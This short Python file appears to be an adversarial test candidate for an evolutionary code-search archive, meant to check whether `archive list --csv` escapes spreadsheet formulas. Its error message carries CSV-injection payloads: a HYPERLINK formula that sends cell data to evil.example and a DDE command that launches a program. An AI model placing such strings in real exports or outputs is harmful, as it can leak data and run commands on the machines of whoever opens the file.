"""Attack: spreadsheet formulas in what ends up in `archive list --csv` (the message and
every line of it)."""
# EVOLVE-BLOCK-START
import numpy as np


def fit_scaling_law(data_points, loss_values):
    raise RuntimeError('=HYPERLINK("http://evil.example/?"&A1,"x")\n+cmd|" /C calc"!A0\n-2+3\n@SUM(1)')


def scaling_law_func(data_points, params):
    return np.ones(len(data_points))
# EVOLVE-BLOCK-END
